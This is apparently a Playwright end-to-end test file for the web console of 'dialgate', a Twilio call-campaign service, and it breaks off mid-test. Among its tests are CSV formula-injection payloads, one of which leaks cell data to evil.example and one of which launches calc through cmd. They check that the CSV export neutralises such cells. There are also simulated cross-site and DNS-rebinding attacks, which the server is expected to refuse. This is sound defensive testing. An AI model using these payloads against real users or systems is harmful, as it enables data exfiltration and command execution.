// The web console in a real browser: Debian's Chromium, headless, driven by playwright-core, against
// the whole local stack in this process (API key on, Twilio simulator). A person's path through it:
// give the key, upload a CSV, watch the run to completed, pause and resume it from the buttons. The
// cap is checked twice: on the page (the live count it showed never passed the cap) and from outside
// dialgate (the simulator never saw more of the run's calls live at once). Screenshots go to
// test-results/console/. Steps whose API routes have not landed yet are skipped, saying so.

import { existsSync, mkdirSync, readFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, type TestContext, test } from 'vitest';
import { type LocalStack, startLocalStack } from '../../tools/local/stack.ts';
import { mulberry32 } from '../../tools/twilio-simulator/simulator.ts';
import { enforceContract, isApiPath } from '../support/contract.ts';

const REPO = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..');
const SHOTS = join(REPO, 'test-results', 'console');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const API_KEY = 'console-test-key';
/** Twilio's magic number that fails at create (21211): a lead that ends `failed`. */
const INVALID_NUMBER = '+15005550001';

/** A web site whose name an attacker pointed at 127.0.0.1 (DNS rebinding). */
const REBINDING_HOST = 'evil.example';

/** The flags this machine needs: no sandbox as root, and no background traffic to a closed network. */
const CHROMIUM_ARGS = [
  '--no-sandbox',
  '--disable-gpu',
  '--disable-quic',
  '--no-first-run',
  '--disable-background-networking',
  '--disable-component-update',
  '--disable-sync',
  // DNS rebinding, for the local stack's Host check: evil.example resolves to this machine. Chromium's
  // own Local Network Access check would stop that page's requests before they reach the server; it is
  // off, so the test sees what a browser without that check sends, and what the server answers.
  `--host-resolver-rules=MAP ${REBINDING_HOST} 127.0.0.1`,
  '--disable-features=LocalNetworkAccessChecks',
];

const haveChromium = existsSync(CHROMIUM);
if (!haveChromium) {
  console.warn(
    `console.test.ts: skipped, no Chromium at ${CHROMIUM} (apt-get install chromium, or set CHROMIUM_PATH)`,
  );
}

let numbers = 0;
function phones(count: number): string[] {
  return Array.from({ length: count }, () => `+1415${String(5_552_000 + numbers++).padStart(7, '0')}`);
}

function leadsCsv(list: string[]): string {
  return `phone,name\n${list.map((phone, i) => `${phone},Lead ${i}`).join('\n')}\n`;
}

// A loaded 2-core CI machine runs other suites beside this one: room beyond the 60 s default.
describe.skipIf(!haveChromium)('the web console in Chromium', { timeout: 120_000 }, () => {
  let stack: LocalStack;
  let browser: Browser;
  let page: Page;
  const pageErrors: string[] = [];
  // Every API answer, to these tests' fetch and to the page, must match docs/openapi.json.
  const contract = enforceContract(() => stack?.apiUrl);

  beforeAll(async () => {
    mkdirSync(SHOTS, { recursive: true });
    [stack, browser] = await Promise.all([
      startLocalStack({
        port: 0,
        apiKey: API_KEY,
        pollers: 2,
        simulator: { ringMs: 150, talkMs: 500, jitter: 0.3, random: mulberry32(11) },
        functionEnv: { POWERTOOLS_METRICS_DISABLED: 'true' },
        onError: (error, where) => console.error(`[local] ${where}:`, error),
      }),
      chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS }),
    ]);
    page = await browser.newPage({ viewport: { width: 1366, height: 900 } });
    page.on('pageerror', (error) => pageErrors.push(error.message));
    page.on('response', async (response) => {
      const url = new URL(response.url());
      if (!response.url().startsWith(stack.apiUrl) || !isApiPath(url.pathname)) return;
      // A page of another origin gets an opaque response, whose headers and body Chromium withholds.
      if (new URL(response.frame().url()).origin !== new URL(stack.apiUrl).origin) return;
      let body: string;
      try {
        body = await response.text();
      } catch {
        // The page moved on before the body came (a test navigating elsewhere): nothing to check.
        return;
      }
      contract.check({
        method: response.request().method(),
        path: url.pathname,
        status: response.status(),
        headers: new Headers(response.headers()),
        body,
      });
    });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await stack?.stop();
  });

  async function api(method: string, path: string, body?: unknown) {
    const response = await fetch(`${stack.apiUrl}${path}`, {
      method,
      headers: { 'x-api-key': API_KEY, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    return {
      status: response.status,
      body: (await response.json().catch(() => ({}))) as { run_id?: string },
    };
  }

  /** Whether the API has a route yet: 404 "No route", 405 or (for CSV) 415 mean not. */
  async function requireRoute(ctx: TestContext, method: string, path: string, contentType?: string) {
    const response = await fetch(`${stack.apiUrl}${path}`, {
      method,
      headers: { 'x-api-key': API_KEY, ...(contentType ? { 'content-type': contentType } : {}) },
      ...(contentType ? { body: 'phone\n' } : {}),
    });
    const body = (await response.json().catch(() => ({}))) as { error?: { message?: string } };
    const missing =
      response.status === 405 ||
      response.status === 415 ||
      (response.status === 404 && /^No route/.test(body.error?.message ?? ''));
    if (missing)
      ctx.skip(`${method} ${path}${contentType ? ` (${contentType})` : ''} is not in this API yet`);
  }

  async function shot(name: string) {
    await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });
  }

  async function runIdOnPage(): Promise<string> {
    await page.waitForURL(/#\/runs\/[^/]+$/);
    return decodeURIComponent(new URL(page.url()).hash.replace('#/runs/', ''));
  }

  /** Waits for the status badge to read one of `statuses`. */
  async function waitForStatus(statuses: string[], timeoutMs = 60_000) {
    await expect
      .poll(() => page.locator('#run-status').textContent(), { timeout: timeoutMs, interval: 100 })
      .toSatisfy((text: string | null) => statuses.includes(text ?? ''));
  }

  /** Waits until the page shows at least one live call. */
  async function waitForLiveCalls() {
    await expect
      .poll(async () => Number(await page.locator('#live-count').getAttribute('data-live')), {
        timeout: 30_000,
        interval: 50,
      })
      .toBeGreaterThan(0);
  }

  /** What the page shows: live calls now, the cap, and the most it showed at once while open. */
  async function liveOnPage() {
    const count = page.locator('#live-count');
    const [live, cap, peak] = await Promise.all(
      ['data-live', 'data-cap', 'data-peak'].map(async (name) => Number(await count.getAttribute(name))),
    );
    return { live: live!, cap: cap!, peak: peak! };
  }

  test('asks for the API key, and keeps it for this tab', async () => {
    await page.goto(stack.apiUrl);
    await expect
      .poll(() => page.locator('#alert').textContent(), { timeout: 10_000 })
      .toContain('Enter the API key');
    expect(await page.locator('#connection').getAttribute('open')).not.toBeNull();
    await page.getByLabel('API key').fill(API_KEY);
    await page.getByRole('button', { name: 'Save' }).click();
    await expect.poll(() => page.locator('#alert').isHidden()).toBe(true);
    expect(await page.evaluate(() => sessionStorage.getItem('dialgate.apiKey'))).toBe(API_KEY);
    expect(await page.locator('#connection-summary').textContent()).toBe('this server, with key');
    await shot('01-runs');
  });

  test('a run opened by its id is followed live to completed, never more live calls than its cap', async () => {
    const { status, body } = await api('POST', '/runs', {
      concurrency: 3,
      leads: [...phones(11), INVALID_NUMBER].map((phone) => ({ phone })),
    });
    expect(status).toBe(202);
    const runId = body.run_id as string;
    await page.goto(`${stack.apiUrl}/#/`);
    await page.getByLabel('Run id').fill(runId);
    await page.getByRole('button', { name: 'Open' }).click();
    expect(await runIdOnPage()).toBe(runId);
    expect(await page.locator('#run-id').textContent()).toBe(runId);

    await waitForLiveCalls();
    await shot('02-run-live');
    await waitForStatus(['completed']);
    const { cap, peak } = await liveOnPage();
    expect(cap).toBe(3);
    expect(peak).toBeGreaterThan(0);
    expect(peak).toBeLessThanOrEqual(3);
    expect(stack.simulator!.stats().runs[runId]!.maxLive).toBeLessThanOrEqual(3);

    // The final state, as the page shows it.
    await expect
      .poll(() => page.locator('#progress-summary').textContent())
      .toContain('Completed: 12 of 12 done');
    expect(await page.locator('#progress-bar').getAttribute('aria-label')).toContain(
      '11 completed, 1 failed',
    );
    expect(await page.locator('#outcomes').textContent()).toContain('completed');
    expect(await page.getByRole('button', { name: 'Pause' }).isDisabled()).toBe(true);
    await shot('03-run-completed');
  });

  test('a CSV uploaded from the page starts a run that reaches completed within its cap', async (ctx) => {
    await requireRoute(ctx, 'POST', '/runs?concurrency=2', 'text/csv');
    await page.goto(`${stack.apiUrl}/#/`);
    await page.getByLabel(/Leads/).setInputFiles({
      name: 'leads.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(leadsCsv(phones(10))),
    });
    await page.getByLabel(/concurrency/).fill('2');
    await page.getByRole('button', { name: 'Start run' }).click();
    const runId = await runIdOnPage();
    await waitForStatus(['completed']);
    const { cap, peak } = await liveOnPage();
    expect(cap).toBe(2);
    expect(peak).toBeGreaterThan(0);
    expect(peak).toBeLessThanOrEqual(2);
    expect(stack.simulator!.stats().runs[runId]!.maxLive).toBeLessThanOrEqual(2);
    expect(stack.simulator!.stats().runs[runId]!.created).toBe(10);
    await shot('04-csv-run-completed');
  });

  test('a run started with answering-machine detection says who answered each call', async (ctx) => {
    await requireRoute(ctx, 'POST', '/runs?concurrency=2&machine_detection=Enable', 'text/csv');
    await page.goto(`${stack.apiUrl}/#/`);
    // The simulator's rule: a number ending in 7, 8 or 9 is answered by a machine.
    await page.getByLabel(/Leads/).setInputFiles({
      name: 'leads.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(leadsCsv(['+14155552917', '+14155552921'])),
    });
    await page.getByLabel(/concurrency/).fill('2');
    await page.getByLabel('Answering machines').selectOption('Enable');
    await page.getByLabel('When a machine answers').selectOption('continue');
    const query = nextCreateQuery();
    await page.getByRole('button', { name: 'Start run' }).click();
    const runId = await runIdOnPage();
    expect(await query).toEqual({ concurrency: '2', machine_detection: 'Enable', on_machine: 'continue' });
    expect(((await api('GET', `/runs/${runId}`)).body as Record<string, unknown>).on_machine).toBe(
      'continue',
    );
    const options = page.locator('#run-options');
    await expect
      .poll(() => options.textContent())
      .toBe('Answering machines detected (Enable) and played the content');
    await waitForStatus(['completed']);
    const calls = stack.simulator!.calls().filter((call) => call.run === runId);
    expect(calls.map((call) => [call.machineDetection, call.asyncAmd])).toEqual([
      ['Enable', true],
      ['Enable', true],
    ]);
    const table = page.locator('#calls-table tbody');
    await expect.poll(() => table.textContent(), { timeout: 15_000 }).toContain('machine_start');
    expect(await page.locator('#calls-table thead').textContent()).toContain('Answered by');
    const rows = await table.locator('tr').allTextContents();
    // Rows in lead order (numbers masked): the machine's call, then the person's.
    expect(rows[0]).toMatch(/^000000.*failed: machine.*machine_start/);
    expect(rows[1]).toMatch(/^000001.*completed.*human/);
    await shot('05-machine-detection');
  });

  test("a bad CSV shows the API's reasons, line by line, and starts nothing", async (ctx) => {
    await requireRoute(ctx, 'POST', '/runs?concurrency=2', 'text/csv');
    await page.goto(`${stack.apiUrl}/#/`);
    const [a] = phones(1);
    await page.getByLabel(/Leads/).setInputFiles({
      name: 'bad.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(`phone,name\n${a},Ada\nnot-a-number,Bob\n`),
    });
    await page.getByRole('button', { name: 'Start run' }).click();
    const alert = page.locator('#create-result [role="alert"]');
    await expect.poll(() => alert.textContent()).toContain('bad.csv');
    expect(await alert.textContent()).toContain('line 3');
    expect(page.url()).toMatch(/#\/$/);
    await shot('05-bad-csv');
  });

  test('pause and resume from the buttons: no new call while paused, then on to completed', async (ctx) => {
    await requireRoute(ctx, 'POST', '/runs/x/pause');
    stack.simulator!.configure({ talkMs: 1_200 });
    try {
      const { body } = await api('POST', '/runs', {
        concurrency: 2,
        leads: phones(8).map((phone) => ({ phone })),
      });
      const runId = body.run_id as string;
      await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
      await waitForLiveCalls();

      await page.getByRole('button', { name: 'Pause' }).click();
      await waitForStatus(['paused'], 10_000);
      expect(await page.locator('#control-result').textContent()).toBe('Run paused.');
      expect(await page.getByRole('button', { name: 'Resume' }).isEnabled()).toBe(true);
      // Calls already live may finish; none starts while paused.
      await stack.simulator!.waitFor(
        (sim) => (sim.stats().runs[runId]?.live ?? 0) === 0,
        20_000,
        'live calls end',
      );
      const createdWhilePaused = stack.simulator!.stats().runs[runId]!.created;
      expect(createdWhilePaused).toBeLessThan(8);
      await new Promise((r) => setTimeout(r, 1_500));
      expect(stack.simulator!.stats().runs[runId]!.created).toBe(createdWhilePaused);
      await shot('06-run-paused');

      await page.getByRole('button', { name: 'Resume' }).click();
      await waitForStatus(['running', 'completed'], 10_000);
      await waitForStatus(['completed']);
      const { peak } = await liveOnPage();
      expect(peak).toBeLessThanOrEqual(2);
      expect(stack.simulator!.stats().runs[runId]).toMatchObject({ created: 8 });
      expect(stack.simulator!.stats().runs[runId]!.maxLive).toBeLessThanOrEqual(2);
      await shot('07-run-resumed-completed');
    } finally {
      stack.simulator!.configure({ talkMs: 500 });
    }
  });

  test('cancel asks first, then the run ends canceled', async (ctx) => {
    await requireRoute(ctx, 'POST', '/runs/x/cancel');
    stack.simulator!.configure({ talkMs: 1_500 });
    try {
      const { body } = await api('POST', '/runs', {
        concurrency: 1,
        leads: phones(5).map((phone) => ({ phone })),
      });
      const runId = body.run_id as string;
      await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
      await waitForStatus(['running']);
      page.once('dialog', (dialog) => void dialog.accept());
      await page.getByLabel('also hang up live calls').check();
      await page.getByRole('button', { name: 'Cancel run…' }).click();
      await waitForStatus(['canceled'], 30_000);
      expect(stack.simulator!.stats().runs[runId]?.created ?? 0).toBeLessThan(5);
      await shot('08-run-canceled');
    } finally {
      stack.simulator!.configure({ talkMs: 500 });
    }
  });

  test('a run scheduled from the form shows when it starts and expires; one that paused itself says why', async () => {
    // Whole minutes: the form's date-time fields take minutes.
    const startAt = new Date(Math.ceil((Date.now() + 86_400_000) / 60_000) * 60_000);
    const expiresAt = new Date(startAt.getTime() + 3_600_000);
    // The page's own local times: the same instants as the API's UTC ones.
    const local = (date: Date, separator = ' ') => {
      const pad = (n: number) => String(n).padStart(2, '0');
      return `${date.getFullYear()}-${pad(date.getMonth() + 1)}-${pad(date.getDate())}${separator}${pad(date.getHours())}:${pad(date.getMinutes())}`;
    };
    await page.goto(`${stack.apiUrl}/#/`);
    await page.getByLabel(/Leads/).setInputFiles({
      name: 'leads.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(leadsCsv(phones(2))),
    });
    await page.getByLabel(/concurrency/).fill('1');
    await page.getByLabel('Start at').fill(local(startAt, 'T'));
    await page.getByLabel('Expires at').fill(local(expiresAt, 'T'));
    await page.getByLabel(/share of recent calls failed/).fill('0.5');
    await page.getByLabel(/of the last this many calls/).fill('10');
    await page.getByRole('button', { name: 'Start run' }).click();
    const scheduledId = await runIdOnPage();
    expect((await api('GET', `/runs/${scheduledId}`)).body).toMatchObject({
      status: 'scheduled',
      start_at: startAt.toISOString(),
      expires_at: expiresAt.toISOString(),
      pause_when: { failed_ratio: 0.5, min_calls: 10 },
    });
    await waitForStatus(['scheduled'], 10_000);
    const schedule = page.locator('#run-schedule');
    await expect.poll(() => schedule.isVisible()).toBe(true);
    const text = (await schedule.textContent()) ?? '';
    expect(text).toContain(`Starts ${local(startAt)}`);
    expect(text).toContain(`expires ${local(expiresAt)}`);
    expect(text).toContain('pauses itself when more than 0.5 of the last 10 calls failed');
    expect(await page.locator('#run-pause-reason').isHidden()).toBe(true);
    expect(await page.getByRole('button', { name: 'Pause' }).isEnabled()).toBe(true);
    expect(await page.getByRole('button', { name: 'Resume' }).isDisabled()).toBe(true);
    expect(stack.simulator!.stats().runs[scheduledId]?.created ?? 0).toBe(0);
    await shot('16-run-scheduled');

    // One call at a time; the first lead is a number Twilio refuses, which trips a breaker of one call.
    const breaker = await api('POST', '/runs', {
      concurrency: 1,
      leads: [INVALID_NUMBER, ...phones(2)].map((phone) => ({ phone })),
      pause_when: { failed_ratio: 0, min_calls: 1 },
    });
    const breakerId = breaker.body.run_id as string;
    await page.goto(`${stack.apiUrl}/#/runs/${breakerId}`);
    await waitForStatus(['paused'], 30_000);
    const reason = page.locator('#run-pause-reason');
    await expect
      .poll(() => reason.textContent())
      .toBe('Paused by dialgate: pause_when: 1 of the last 1 calls failed (more than failed_ratio 0)');
    await shot('17-run-paused-by-breaker');

    await page.getByRole('button', { name: 'Resume' }).click();
    await waitForStatus(['completed']);
    expect(await reason.isHidden()).toBe(true);
    expect(stack.simulator!.stats().runs[breakerId]).toMatchObject({ created: 2 });
    await api('POST', `/runs/${scheduledId}/cancel`);
  });

  /** The runs page with a fresh form: a hash change alone keeps what earlier tests typed into it. */
  async function freshCreateForm() {
    await page.goto(`${stack.apiUrl}/#/`);
    await page.reload();
    await page.locator('#create-form').waitFor();
  }

  /** The query string of the form's next POST /runs, as sent (the CSV upload's run options). */
  function nextCreateQuery() {
    return page
      .waitForRequest((request) => request.method() === 'POST' && new URL(request.url()).pathname === '/runs')
      .then((request) => Object.fromEntries(new URL(request.url()).searchParams));
  }

  test('retries, a waiting frequency cap and an opt-out chosen on the form reach the run as chosen', async () => {
    const message = 'To stop calls from Acme Dental, press 9.';
    const leads = phones(2);
    await freshCreateForm();
    await page.getByLabel(/Leads/).setInputFiles({
      name: 'leads.csv',
      mimeType: 'text/csv',
      buffer: Buffer.from(leadsCsv(leads)),
    });
    await page.getByLabel(/concurrency/).fill('2');
    for (const outcome of ['busy', 'no answer', 'failed'])
      await page.getByLabel(outcome, { exact: true }).check();
    await page.getByLabel('Seconds to wait before calling again').fill('45');
    await page.getByLabel('Calls per lead at most').fill('4');
    await page.getByLabel(/waits for the number’s next window/).check();
    await page.getByLabel('Key a callee presses to stop our calls').selectOption('9');
    await page.getByLabel('Message that offers the key').fill(message);
    const query = nextCreateQuery();
    await page.getByRole('button', { name: 'Start run' }).click();
    const runId = await runIdOnPage();
    // What the page sent: the options set, and nothing for the fields left alone.
    expect(await query).toEqual({
      concurrency: '2',
      'retry.on': 'busy,no-answer,failed',
      'retry.delay_seconds': '45',
      'retry.max_attempts': '4',
      frequency_cap: 'wait',
      'opt_out.digit': '9',
      'opt_out.message': message,
    });
    const run = (await api('GET', `/runs/${runId}`)).body as Record<string, unknown>;
    expect(run.retry).toEqual({ on: ['busy', 'no-answer', 'failed'], delay_seconds: 45, max_attempts: 4 });
    expect(run.frequency_cap).toBe('wait');
    expect(run.opt_out).toEqual({ digit: '9', message });
    expect([run.machine_detection, run.start_at, run.pause_when]).toEqual([null, null, null]);

    const options = page.locator('#run-options');
    await expect.poll(() => options.isVisible()).toBe(true);
    expect(await options.textContent()).toBe(
      'Retries busy, no-answer, failed after 45 s, at most 4 calls per lead · a number over the ' +
        `frequency cap waits for its next window · callees opt out by pressing 9 (“${message}”)`,
    );
    await waitForStatus(['completed']);
    // From outside dialgate: each call Twilio got offers the key, in the run's own words.
    const calls = stack.simulator!.calls().filter((call) => call.run === runId);
    expect(calls.map((call) => call.to).sort()).toEqual([...leads].sort());
    for (const call of calls) {
      expect(call.twiml).toContain('<Gather input="dtmf" numDigits="1"');
      expect(call.twiml).toContain(`<Say>${message}</Say>`);
    }
    await shot('18-run-options');
  });

  test('run options the API refuses: its 400 names each field beside the form, and nobody is called', async () => {
    const [newest] = ((await api('GET', '/runs?limit=1')).body as { runs: { run_id: string }[] }).runs;
    const leads = phones(2);
    const upload = () =>
      page.getByLabel(/Leads/).setInputFiles({
        name: 'leads.csv',
        mimeType: 'text/csv',
        buffer: Buffer.from(leadsCsv(leads)),
      });
    const alert = page.locator('#create-result [role="alert"]');

    // Text in a number field has no value a browser would send: the page says so, and asks nothing.
    await freshCreateForm();
    await upload();
    const creates: string[] = [];
    const noteCreate = (request: { method(): string; url(): string }) => {
      if (request.method() === 'POST') creates.push(request.url());
    };
    page.on('request', noteCreate);
    await page.getByLabel('Calls per lead at most').pressSequentially('2e');
    await page.getByRole('button', { name: 'Start run' }).click();
    await expect
      .poll(() => alert.textContent())
      .toBe('Calls per lead at most, the first one included: enter a number.');
    expect(await page.locator('#retry-max-attempts').getAttribute('aria-invalid')).toBe('true');
    page.off('request', noteCreate);
    expect(creates).toEqual([]);

    // A negative delay, and a message with no key to offer.
    await freshCreateForm();
    await upload();
    await page.getByLabel('Seconds to wait before calling again').fill('-5');
    await page.getByLabel('Message that offers the key').fill('Press a key to stop these calls.');
    let query = nextCreateQuery();
    await page.getByRole('button', { name: 'Start run' }).click();
    expect(await query).toEqual({
      concurrency: '3',
      'retry.delay_seconds': '-5',
      'opt_out.message': 'Press a key to stop these calls.',
    });
    await expect.poll(() => alert.textContent()).toContain('run option(s) are invalid; nothing was created.');
    let items = await alert.locator('li').allTextContents();
    expect(items).toEqual([
      'Seconds to wait before calling again (retry.delay_seconds): expected whole seconds from 0 to 604800',
      'Key a callee presses to stop our calls (opt_out.digit): required, one key: 0-9, * or #',
    ]);
    expect(await page.locator('#retry-delay').getAttribute('aria-invalid')).toBe('true');
    expect(await page.locator('#opt-out-digit').getAttribute('aria-invalid')).toBe('true');
    expect(await page.locator('#opt-out-message').getAttribute('aria-invalid')).toBeNull();
    expect(await page.evaluate('document.activeElement.id')).toBe('retry-delay');
    expect(page.url()).toMatch(/#\/$/);
    await shot('19-run-options-refused');

    // `machine` without answering-machine detection: the API's own rule, not the page's.
    await freshCreateForm();
    await upload();
    await page.getByLabel('a machine answered').check();
    query = nextCreateQuery();
    await page.getByRole('button', { name: 'Start run' }).click();
    expect(await query).toEqual({ concurrency: '3', 'retry.on': 'machine' });
    await expect.poll(() => alert.textContent()).toContain('nothing was created');
    items = await alert.locator('li').allTextContents();
    expect(items).toEqual([
      'Call the lead again when a call ends (retry.on): "machine" needs machine_detection: without it no call ends machine',
    ]);
    expect(await page.getByLabel('a machine answered').getAttribute('aria-invalid')).toBe('true');
    expect(await page.getByLabel('busy', { exact: true }).getAttribute('aria-invalid')).toBe('true');

    // No run, and no call to these leads (a run created by mistake would have dialed them by now).
    await new Promise((r) => setTimeout(r, 1_500));
    expect(stack.simulator!.calls().filter((call) => leads.includes(call.to))).toEqual([]);
    const [newestAfter] = ((await api('GET', '/runs?limit=1')).body as { runs: { run_id: string }[] }).runs;
    expect(newestAfter?.run_id).toBe(newest?.run_id);
  });

  test('the calls table filters by status and outcome', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs/x/calls');
    const { body } = await api('POST', '/runs', {
      concurrency: 3,
      leads: [...phones(4), INVALID_NUMBER].map((phone) => ({ phone })),
    });
    const runId = body.run_id as string;
    await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
    await waitForStatus(['completed']);
    await page.getByRole('button', { name: 'Refresh' }).last().click();
    await expect.poll(() => page.locator('#calls-table caption').textContent()).toBe('5 calls shown');
    await page.getByLabel('Status').selectOption('failed');
    await expect.poll(() => page.locator('#calls-table caption').textContent()).toBe('1 failed call shown');
    await page.getByLabel('show full phone numbers').check();
    await expect.poll(() => page.locator('#calls-table tbody').textContent()).toContain(INVALID_NUMBER);
    await shot('09-calls-failed');
    await page.getByLabel('Outcome', { exact: true }).selectOption('rejected');
    await expect
      .poll(() => page.locator('#calls-table caption').textContent())
      .toBe('1 failed call with outcome rejected shown');
    await page.getByLabel('Outcome', { exact: true }).selectOption('busy');
    await expect
      .poll(() => page.locator('#calls-table').textContent())
      .toBe('No failed calls with outcome busy.');
    await page.getByLabel('Status').selectOption('');
    await page.getByLabel('Outcome', { exact: true }).selectOption('completed');
    await expect
      .poll(() => page.locator('#calls-table caption').textContent())
      .toBe('4 calls with outcome completed shown');
  });

  test('Download CSV: every call of the filter, formula cells neutralised, phone numbers usable', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs/x/calls');
    // Valid Israeli mobiles (libphonenumber-js max), used by no other test here.
    const dana = '+972524567301';
    const noa = '+972534881302';
    const { body } = await api('POST', '/runs', {
      concurrency: 2,
      leads: [
        { phone: dana, name: '=HYPERLINK("https://evil.example/?"&A2,"Dana")', balance: -120 },
        { phone: noa, name: '@SUM(1+1)', balance: '+35' },
        { phone: INVALID_NUMBER, name: "-cmd|' /C calc'!A0" },
      ],
    });
    const runId = body.run_id as string;
    await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
    await waitForStatus(['completed']);

    /** Clicks Download CSV and reads the file the browser saved. */
    async function download() {
      const [saved] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Download CSV' }).click(),
      ]);
      const text = readFileSync((await saved.path())!, 'utf8');
      return { name: saved.suggestedFilename(), text, rows: parseCsv(text, { bom: true }) as string[][] };
    }

    await page.getByLabel('show full phone numbers').check();
    const whole = await download();
    expect(whole.name).toBe(`dialgate-${runId}-calls.csv`);
    // A byte order mark for Excel, then every cell quoted.
    expect(whole.text.startsWith('\uFEFF"job_id","phone",')).toBe(true);
    const [header, ...rows] = whole.rows as [string[], ...string[][]];
    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
    expect(column('phone')).toEqual([dana, noa, INVALID_NUMBER]);
    expect(column('name')).toEqual([
      `'=HYPERLINK("https://evil.example/?"&A2,"Dana")`,
      "'@SUM(1+1)",
      "'-cmd|' /C calc'!A0",
    ]);
    expect(column('balance')).toEqual(['-120', '+35', '']);
    expect(await page.locator('#calls-download-result').textContent()).toBe('3 calls saved as CSV.');

    // The table's filter and phone setting apply: the failed call, its number masked.
    await page.getByLabel('show full phone numbers').uncheck();
    await page.getByLabel('Status').selectOption('failed');
    const failed = await download();
    expect(failed.name).toBe(`dialgate-${runId}-failed-calls.csv`);
    expect(failed.rows.slice(1).map((row) => row[1])).toEqual(['+150******01']);
    expect(await page.locator('#calls-download-result').textContent()).toContain(
      '1 failed call saved as CSV, phone numbers masked',
    );
    await shot('09b-calls-download');
  });

  test('pages of other sites: a cross-site POST cannot cancel a run, a rebound page cannot read whole numbers', async () => {
    const { body } = await api('POST', '/runs', {
      concurrency: 1,
      leads: phones(2).map((phone) => ({ phone })),
    });
    const runId = body.run_id as string;
    // A run that stays as it is while it is attacked: paused (nothing new is dialed).
    await expect
      .poll(async () => (await api('POST', `/runs/${runId}/pause`)).status, { timeout: 30_000 })
      .toBe(200);
    const port = new URL(stack.apiUrl).port;

    // Another site on this machine (http://localhost:<port> is not the same site as 127.0.0.1): its
    // POST needs no preflight, so Chromium sends it, with its own Origin and Sec-Fetch-Site.
    await page.goto(`http://localhost:${port}/#/`);
    const cancel = `${stack.apiUrl}/runs/${runId}/cancel?hangup=true`;
    const [answer] = await Promise.all([
      page.waitForResponse(cancel),
      page.evaluate((url) => fetch(url, { method: 'POST', mode: 'no-cors' }).then(() => undefined), cancel),
    ]);
    // The guard's 403, not the API key's 401: the request never reached the API. (Its body is the
    // browser's to withhold from another origin's page: an opaque response.)
    expect(answer.status()).toBe(403);
    expect(
      await (await fetch(`${stack.apiUrl}/runs/${runId}`, { headers: { 'x-api-key': API_KEY } })).json(),
    ).toMatchObject({
      status: 'paused',
    });

    // A page on evil.example, then resolved to 127.0.0.1: to the browser, the API is its own origin.
    const attack = `http://${REBINDING_HOST}:${port}/attack.html`;
    await page.route(attack, (route) =>
      route.fulfill({ contentType: 'text/html', body: '<!doctype html><title>Win a prize</title>' }),
    );
    try {
      await page.goto(attack);
      const read = await page.evaluate(
        (path) =>
          fetch(path).then(async (response) => ({ status: response.status, text: await response.text() })),
        `/runs/${runId}/calls?reveal_phone=true`,
      );
      expect(read.status).toBe(403);
      expect(read.text).toContain('The Host header does not name this server');
      expect(read.text).not.toContain('+1415');
    } finally {
      await page.unroute(attack);
    }
    expect((await api('POST', `/runs/${runId}/cancel?hangup=true`)).status).toBe(200);
  });

  test('an unknown run: a clear message and no control to press, even right after a run that had them', async () => {
    const { body } = await api('POST', '/runs', {
      concurrency: 1,
      leads: phones(3).map((phone) => ({ phone })),
    });
    stack.simulator!.configure({ talkMs: 1_500 });
    try {
      await page.goto(`${stack.apiUrl}/#/runs/${body.run_id}`);
      await waitForStatus(['running']);
      expect(await page.getByRole('button', { name: 'Pause' }).isEnabled()).toBe(true);

      const controlRequests: string[] = [];
      page.on('request', (request) => {
        if (request.method() === 'POST') controlRequests.push(request.url());
      });
      await page.goto(`${stack.apiUrl}/#/runs/no-such-run`);
      await expect.poll(() => page.locator('#run-missing').isVisible()).toBe(true);
      expect(await page.locator('#run-missing').textContent()).toContain(
        'There is no run with id “no-such-run” at this API',
      );
      expect(await page.locator('#run-status').textContent()).toBe('not found');
      // No "0 of 0 slots", and nothing that would send a request.
      expect(await page.locator('#run-body').isHidden()).toBe(true);
      for (const name of ['Pause', 'Resume', 'Cancel run…']) {
        const button = page.locator('#run-view button', { hasText: name });
        expect(await button.isDisabled()).toBe(true);
        expect(await button.isVisible()).toBe(false);
      }
      expect(controlRequests).toEqual([]);
      await shot('10-run-unknown');
    } finally {
      stack.simulator!.configure({ talkMs: 500 });
    }
  });

  test('the calls table says it is loading until its first page arrives', async () => {
    const { body } = await api('POST', '/runs', {
      concurrency: 2,
      leads: phones(2).map((phone) => ({ phone })),
    });
    let release!: () => void;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route('**/runs/*/calls*', async (route) => {
      await held;
      await route.continue();
    });
    try {
      await page.goto(`${stack.apiUrl}/#/runs/${body.run_id}`);
      const table = page.locator('#calls-table');
      await expect.poll(() => table.textContent(), { timeout: 10_000 }).toBe('Loading calls…');
      expect(await table.getAttribute('aria-busy')).toBe('true');
      await shot('11-calls-loading');
      release();
      await expect
        .poll(() => page.locator('#calls-table caption').textContent(), { timeout: 10_000 })
        .toMatch(/^2 calls shown/);
      expect(await table.getAttribute('aria-busy')).toBeNull();
    } finally {
      release();
      await page.unroute('**/runs/*/calls*');
    }
  });

  test('a finished run shows its own average dial rate and peak, and one column for status and outcome', async () => {
    const { body } = await api('POST', '/runs', {
      concurrency: 3,
      leads: [...phones(6), INVALID_NUMBER].map((phone) => ({ phone })),
    });
    const runId = body.run_id as string;
    // Finished before the page opens: nothing the page saw live, only the run's own figures.
    await expect
      .poll(
        async () =>
          (
            (await (
              await fetch(`${stack.apiUrl}/runs/${runId}`, { headers: { 'x-api-key': API_KEY } })
            ).json()) as { status: string }
          ).status,
        {
          timeout: 60_000,
          interval: 200,
        },
      )
